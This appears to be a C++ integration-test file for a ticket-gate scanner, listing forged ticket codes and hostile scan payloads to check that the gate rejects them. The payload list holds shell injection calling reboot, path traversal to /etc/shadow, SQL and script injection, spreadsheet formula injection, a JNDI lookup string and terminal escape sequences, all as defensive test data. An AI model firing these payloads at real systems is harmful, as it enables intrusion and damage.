#include "tests/integration/hostile_rows.h"

namespace voelgoed::integration {

namespace {

QByteArray replaced(QByteArray code, qsizetype at, const QByteArray &text)
{
    return code.replace(at, text.size(), text);
}

QByteArray fullWidth(const QByteArray &code)
{
    QString wide;
    for (const char c : code)
        wide += c > 0x20 ? QChar(0xFEE0 + c) : QChar(0x3000);
    return wide.toUtf8();
}

QByteArray spaced(const QByteArray &code)
{
    QByteArray wide;
    for (const char c : code)
        wide += QByteArray(1, c) + ' ';
    return wide.trimmed();
}

} // namespace

std::vector<HostileRow> forgedRows(HostileEvent &event)
{
    const QByteArray good = event.bundle().signedCode(1), foreign = event.bundle().foreignCode(1);
    const QByteArray typed = event.bundle().typedCode(1);
    const QByteArray other = PracticeBundle(1, 77).signedCode(1);
    ticket::T1Claims late = event.claims(), zoneless = event.claims(), past = event.claims(), none = event.claims();
    late.ordinal = past.ordinal = zoneless.ordinal = {HostileEvent::kUnlisted};
    late.validFromHours = 65'535;
    late.durationHours = 254;
    zoneless.zones = 0;
    past.validFromHours = 1;
    past.durationHours = 1;
    none.ordinal = {0};
    ticket::T1Claims rotating = event.claims();
    rotating.rotating = true;
    using E = HostileEvent;
    return {
        {"base45, 121 characters", good.left(121)},
        {"base45, 123 characters", good + "0"},
        {"base45, twice", good + good},
        {"base45, illegal first", replaced(good, 2, "_")},
        {"base45, illegal middle", replaced(good, 60, "#")},
        {"base45, illegal last", replaced(good, 121, "!")},
        {"base45, a triple of 65,536", replaced(good, 2, "GGW")},
        {"base45, a triple of 65,536 in the middle", replaced(good, 62, "GGW")},
        {"base45, a triple of 91,124", replaced(good, 119, ":::")},
        {"lower case", good.toLower()},
        {"lower case behind T1", "T1" + good.mid(2).toLower()},
        {"a small t", "t" + good.mid(1)},
        {"spaced in the middle", good.left(61) + " " + good.mid(61)},
        {"spaced all through", spaced(good)},
        {"full-width", fullWidth(good)},
        {"full-width, first letter", fullWidth(good.left(1)) + good.mid(1)},
        {"a homoglyph for T", "\xd0\xa2" + good.mid(1)},
        {"in quotes", "\"" + good + "\""},
        {"something before", "X" + good},
        {"something behind", good + "X"},
        {"a URL around it", "https://example.org/t/" + good},
        {"AIM marker typed as data", "]Q1" + good},
        {"decimal, 195 nines", "17" + QByteArray(193, '9')},
        {"decimal, all zero", "17" + QByteArray(193, '0'), "forged"},
        {"decimal, a digit short", "17" + QByteArray(192, '0')},
        {"decimal, a letter O", "17" + QByteArray(192, '0') + "O"},
        {"foreign, lower case", foreign.toLower()},
        {"foreign, spaced", spaced(foreign)},
        {"foreign, full-width", fullWidth(foreign)},
        {"foreign, one letter short", foreign.chopped(1)},
        {"foreign, one letter more", foreign + "2"},
        {"foreign, twice", foreign + foreign},
        {"foreign, zero-width space inside", foreign.left(3) + "\xe2\x80\x8b" + foreign.mid(3)},
        {"typed, one letter short", typed.chopped(1)},
        {"typed, one letter more", typed + "2"},
        {"typed, the letter U", "UUUU-UUUU-UUUUU"},
        {"typed, all zero", "0000-0000-00000"},
        {"version 2", event.claiming(0, 0x20), "forged"},
        {"version 0", event.claiming(0, 0x00), "forged"},
        {"algorithm bits of a shared key", event.claiming(0, 0x14), "forged"},
        {"algorithm bits 2", event.claiming(0, 0x18), "forged"},
        {"algorithm bits 3", event.claiming(0, 0x1C), "forged"},
        {"flag that nobody knows", event.claiming(0, 0x12), "forged"},
        {"slot of no key", event.claiming(1, 9), "forged"},
        {"slot 255", event.claiming(1, 255), "forged"},
        {"short id of another event", event.claiming(5, std::to_integer<unsigned>(event.code().bytes[5]) ^ 1),
         "wrong_event"},
        {"another event's ticket", other, "wrong_event"},
        {"ordinal 0", event.saying(none), "forged"},
        {"ordinal changed", event.flipped(8, 1), "forged"},
        {"ordinal of all ones", event.flipped(6, 0xFF), "forged"},
        {"generation changed", event.flipped(9, 1), "forged"},
        {"type changed", event.flipped(10, 2), "forged"},
        {"zones changed", event.flipped(11, 0x80), "forged"},
        {"duration changed", event.flipped(15, 0xFF), "forged"},
        {"signature, a bit of R", event.flipped(16, 1), "forged"},
        {"signature, a bit of S", event.flipped(79, 0x10), "forged"},
        {"signature, all zero", event.withSignature(E::kZero, E::kZero), "forged"},
        {"signature, R of order 1", event.withSignature(E::kOne, E::kZero), "forged"},
        {"signature, R of order 8", event.withSignature(E::kOfOrder8, E::kZero), "forged"},
        {"signature, S is the group's order", event.withSignature(E::kZero, E::kOrder), "forged"},
        {"signature, S above the group's order", event.malleated(), "forged"},
        {"generation 0 after 255", event.bundle().signedCode(E::kSuperseded), "superseded"},
        {"a window that would overflow", event.saying(late), "not_yet_valid"},
        {"a window that is over", event.saying(past), "expired"},
        {"zone mask 0", event.saying(zoneless), "wrong_zone"},
        {"rotating part missing", event.saying(rotating), "stale_code"},
        {"rotating part of long ago", good + "179647200052741650", "stale_code"},
        {"rotating part of all nines", good + QByteArray(18, '9'), "stale_code"},
        {"rotating part with a sign", good + "-79647200052741650"},
        {"rotating part, a digit short", good + "17964720005274165"},
    };
}

std::vector<HostileRow> payloadRows()
{
    return {
        {"nothing", "", ""},
        {"terminators", "\n\r\n\n\r", ""},
        {"blanks", "     "},
        {"a tab", "\t"},
        {"the greatest QR code, 7,089 digits", QByteArray(7'089, '1')},
        {"the greatest QR code, 4,296 letters", "T1" + QByteArray(4'294, 'A')},
        {"the greatest QR code, 2,953 bytes", QByteArray(2'953, '\xe9')},
        {"512 bytes", QByteArray(512, 'A')},
        {"513 bytes", QByteArray(513, 'A')},
        {"NUL", QByteArray(1, '\0')},
        {"NUL between letters", QByteArray("AB\0CD", 5)},
        {"many NULs", QByteArray(200, '\0')},
        {"Ctrl-C", "\x03"},
        {"Ctrl-D", "\x04"},
        {"Ctrl-O", "\x0f"},
        {"XON and XOFF", "\x11\x13"},
        {"Ctrl-Z and Ctrl-backslash", "\x1a\x1c"},
        {"backspaces", "ticket\b\b\b\b\b\bGO    "},
        {"DEL", "\x7f"},
        {"bell", "\a\a\a"},
        {"form feed, vertical tab", "\f\v"},
        {"clear the screen", "\x1b[2J\x1b[H"},
        {"green letters", "\x1b[32mGO    Adult\x1b[0m"},
        {"title of the window", "\x1b]0;admitted\x07"},
        {"clipboard", "\x1b]52;c;Z28=\x07"},
        {"device status", "\x1b[6n"},
        {"eight-bit control", "\x9b"
                              "31m"},
        {"a key on a keyboard", "\x1b[1;3S Alt+F4"},
        {"alternate screen", "\x1b[?1049h"},
        {"GS1 element string", "\x1d"
                               "01095060001343528\x1d"
                               "10ABC"},
        {"GS1 in brackets", "(01)09506000134352"},
        {"GS1 marker", "]d2010950600013435"},
        {"FNC1 as a byte", "\xe8"
                           "01095060001343528"},
        {"ECI marker alone", "\\000026"},
        {"ECI and Shift-JIS", "\\000020\x83\x65\x83\x58\x83\x67"},
        {"Shift-JIS", "\x83\x65\x83\x58\x83\x67"},
        {"structured append, a part", "\x02\x03ticket part 3 of 4"},
        {"AIM marker alone", "]Q3"},
        {"URL", "https://example.org/admit?all=true"},
        {"script", "javascript:alert(1)"},
        {"file", "file:///etc/passwd"},
        {"Wi-Fi settings", "WIFI:T:WPA;S:gate;P:secret;;"},
        {"data URL", "data:text/html,<script>alert(1)</script>"},
        {"phone", "tel:+27115550100"},
        {"contact", "BEGIN:VCARD\\nFN:Guest 0001\\nEND:VCARD"},
        {"markup", "<b>GO</b><img src=x onerror=alert(1)>"},
        {"entity bomb", "<!DOCTYPE a [<!ENTITY b \"&b;&b;\">]><a>&b;</a>"},
        {"override of direction", "\xe2\x80\xae"
                                  "TIMDA\xe2\x80\xac"},
        {"isolates of direction", "\xe2\x81\xa7ok\xe2\x81\xa9"},
        {"zero-width", "OK\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8d\xef\xbb\xbf"},
        {"combining flood", "o" + QByteArray("\xcc\x81").repeated(200)},
        {"homoglyphs", "\xd0\x90\xd0\xa1\xd0\xa1\xd0\x95SS"},
        {"line separator", "a\xe2\x80\xa8"
                           "b\xe2\x80\xa9"
                           "c"},
        {"next line, U+0085", "a\xc2\x85"
                              "b"},
        {"tags", "\xf3\xa0\x80\x81\xf3\xa0\x81\xa1"},
        {"an emoji family", "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9"},
        {"a lone continuation byte", "\x80"},
        {"overlong slash", "\xc0\xaf"},
        {"overlong NUL", "\xc0\x80"},
        {"half a surrogate", "\xed\xa0\x80"},
        {"above U+10FFFF", "\xf4\x90\x80\x80"},
        {"cut in a character", "Caf\xc3"},
        {"bytes FE and FF", "\xfe\xff"},
        {"BOM in front", "\xef\xbb\xbfticket"},
        {"BOM in the middle", "tic\xef\xbb\xbfket"},
        {"UTF-16", QByteArray("\xff\xfet\0i\0c\0", 8)},
        {"every byte but line ends",
         [] {
             QByteArray all;
             for (int c = 0; c < 256; ++c) {
                 if (c != '\n' && c != '\r')
                     all += static_cast<char>(c);
             }
             return all;
         }()},
        {"a verdict of its own", "{\"outcome\":\"admit\",\"reason\":\"ok\",\"durable\":true}"},
        {"a request to the gate", "{\"verb\":\"load\",\"bundle\":\"/tmp/x\",\"yes\":true}"},
        {"brackets", QByteArray(500, '[')},
        {"numbers", "1e400 -0 NaN 9007199254740993"},
        {"format string", "%s%s%s%n%x"},
        {"statement", "'); DROP TABLE journal;--"},
        {"statement, always true", "' OR '1'='1"},
        {"wildcards", "QT-%"},
        {"shell", "$(reboot); `reboot` | reboot"},
        {"path", "../../../../etc/shadow"},
        {"formula", "=cmd|' /C calc'!A0"},
        {"formula, at", "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"option", "--yes"},
        {"template", "{{7*7}}${7*7}#{7*7}"},
        {"lookup", "${jndi:ldap://example.org/a}"},
        {"T1 alone", "T1"},
        {"17 alone", "17"},
        {"pretix-like", "cDzBqf5aA1+/0000000000000000.0000"},
    };
}

} // namespace voelgoed::integration
